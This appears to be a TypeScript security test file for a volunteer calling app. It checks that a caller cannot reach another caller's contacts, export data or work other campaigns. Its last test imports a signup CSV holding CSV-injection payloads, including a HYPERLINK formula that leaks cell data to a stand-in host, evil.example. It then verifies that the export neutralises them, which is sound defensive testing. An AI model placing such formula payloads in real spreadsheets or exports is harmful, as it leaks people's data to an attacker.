// What a volunteer with a join link cannot do, tried the way a curious or hostile one would:
// reach a contact someone else holds, export, watch the dashboard, work another campaign.
// And what a hostile signup file cannot do to the spreadsheet an organiser opens later.
import { randomUUID } from 'node:crypto';
import { ask } from '../helpers/agent';
import { makeCampaign, makeContacts, signedInAs } from '../helpers/factories';
import { useCallingServer } from '../helpers/callingServer';

// Simulated calls ring for a minute here, so one is still live while the other caller meddles.
const t = useCallingServer({ CLAIM_MAX_PER_HOUR: '1000', SIMULATED_RING_MS: '60000' });
const key = () => `k-${randomUUID()}`;

describe('a caller', () => {
  it('cannot act on, reveal or text a contact another caller holds', async () => {
    const campaign = await makeCampaign(t.server, { telephony: 'simulated' });
    await makeContacts(t.server.db, campaign.id, 3);
    const alice = await t.callerSocket(campaign);
    const mallory = await t.callerSocket(campaign);
    const held = (await ask(alice.socket, 'call.next', { campaignId: campaign.id })).assignment;
    const own = (await ask(mallory.socket, 'call.next', { campaignId: campaign.id })).assignment;
    expect(own.contact.id).not.toBe(held.contact.id);
    const theirs = { assignmentId: held.assignmentId };
    // Alice's simulated call is ringing while Mallory tries.
    expect((await ask(alice.socket, 'telephony.simulate', theirs)).ok).toBe(true);

    for (const [event, payload] of [
      ['call.dialled', theirs],
      ['call.ended', theirs],
      ['call.release', theirs],
      ['call.outcome', { ...theirs, outcome: 'do_not_call', idempotencyKey: key() }],
      ['telephony.simulate', theirs],
      ['telephony.hangup', theirs],
    ] as const) {
      const reply = await ask(mallory.socket, event, payload);
      expect([event, reply.ok]).toEqual([event, false]);
      expect(['assignment_not_held', 'not_found', 'forbidden', 'invalid_request']).toContain(reply.error);
    }
    // The organisers' person pages are closed to callers, whoever they ask for.
    for (const url of [
      `/api/contacts/${held.contact.id}`,
      `/api/contacts/${held.contact.id}/subject-access`,
      `/api/contacts?q=${encodeURIComponent(held.contact.firstName)}`,
    ]) {
      const r = await mallory.agent.req('GET', url);
      expect([url, r.status, r.body.error]).toEqual([url, 403, 'forbidden']);
    }
    // The own-phone fallback reveals a number only for the caller's own contact.
    const reveal = await mallory.agent.req('POST', '/api/telephony/fallback', theirs);
    expect([403, 404, 409]).toContain(reveal.status);
    const heldPhone = (await t.server.db('contacts').where({ id: held.contact.id }).first()).phone_e164;
    expect(JSON.stringify(reveal.body)).not.toContain(heldPhone.slice(-6));

    // Alice's contact is untouched: still hers, not opted out, no call recorded against it.
    expect(await t.queueRow(held.assignmentId)).toMatchObject({
      status: 'claimed',
      claimed_by: alice.userId,
    });
    expect(await t.server.db('opt_outs').where({ phone_e164: heldPhone })).toHaveLength(0);
    expect(await t.server.db('calls').where({ campaign_contact_id: held.assignmentId })).toHaveLength(0);
    const leg = await t.server.db('provider_calls').where({ campaign_contact_id: held.assignmentId }).first();
    expect(['queued', 'ringing', 'answered']).toContain(leg.status);

    // A text needs a call of one's own: Alice's finished call is not Mallory's to follow up.
    const done = await ask(alice.socket, 'call.outcome', {
      ...theirs,
      outcome: 'interested',
      idempotencyKey: key(),
    });
    const sms = await ask(mallory.socket, 'followup.sms', { callId: done.callId, body: 'hello' });
    expect(sms.ok).toBe(false);
    expect(await t.server.db('sms_messages')).toHaveLength(0);
  });

  it('is sent only what the script needs: no email, and only the imported columns it reads', async () => {
    const campaign = await makeCampaign(t.server, {
      script: { body: 'Hi {{first_name}}, you signed up in {{ custom.Ward }}.', questions: [] },
    });
    await makeContacts(t.server.db, campaign.id, 1, {
      email: 'private@example.org',
      custom: { Ward: 'Easton', 'Date of birth': '1990-01-01', Donated: '£50' },
    });
    const { socket } = await t.callerSocket(campaign);
    const { assignment } = await ask(socket, 'call.next', { campaignId: campaign.id });
    expect(assignment.contact.custom).toEqual({ Ward: 'Easton' });
    expect(assignment.script.body).toMatch(/you signed up in Easton\.$/);
    const sent = JSON.stringify(assignment);
    for (const secret of ['private@example.org', '1990-01-01', '£50']) expect(sent).not.toContain(secret);
  });

  it('cannot export, watch the dashboard, or work a campaign they did not join', async () => {
    const campaign = await makeCampaign(t.server);
    const other = await makeCampaign(t.server);
    await makeContacts(t.server.db, other.id, 2);
    const { agent, socket } = await t.callerSocket(campaign);

    for (const kind of ['contacts', 'calls']) {
      const r = await agent.req('GET', `/api/campaigns/${campaign.id}/export.csv?kind=${kind}`);
      expect([kind, r.status, r.body.error]).toEqual([kind, 403, 'forbidden']);
    }
    expect(await ask(socket, 'campaign.watch', { campaignId: campaign.id })).toMatchObject({
      ok: false,
      error: 'forbidden',
    });
    expect((await agent.req('GET', `/api/campaigns/${campaign.id}/stats`)).status).toBe(403);
    expect((await agent.req('GET', `/api/calling/${other.id}`)).status).toBe(403);
    const elsewhere = await ask(socket, 'call.next', { campaignId: other.id });
    expect(elsewhere).toMatchObject({ ok: false, error: 'forbidden' });
    expect(
      await t.server.db('campaign_contacts').where({ campaign_id: other.id, status: 'claimed' }),
    ).toHaveLength(0);
  });
});

describe('a hostile signup file', () => {
  it('exports its formula names as text, never as formulas', async () => {
    const campaign = await makeCampaign(t.server);
    const { agent } = await signedInAs(t.server, 'organiser');
    const names = [
      '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")',
      '+SUM(1+1)',
      '-2+3',
      '@cmd',
      '\t=1+1',
    ];
    const csv =
      'first name,last name,phone\r\n' +
      names.map((n, i) => `"${n.replace(/"/g, '""')}",Smith,07700 90030${i}`).join('\r\n') +
      '\r\n';
    const imported = await agent.req('POST', `/api/campaigns/${campaign.id}/contacts`, csv, {
      'content-type': 'text/csv',
    });
    expect(imported.body).toMatchObject({ imported: names.length, rejected: [] });

    const res = await fetch(`${t.server.baseUrl}/api/campaigns/${campaign.id}/export.csv?kind=contacts`, {
      headers: { cookie: agent.cookieHeader() },
    });
    const text = await res.text();
    const cells = text
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(',')[1]!);
    // The stored name is kept as given (for the calling screen); only the export neutralises it.
    expect(cells.every((c) => /^"?'/.test(c))).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click for details"")"`);
  });
});
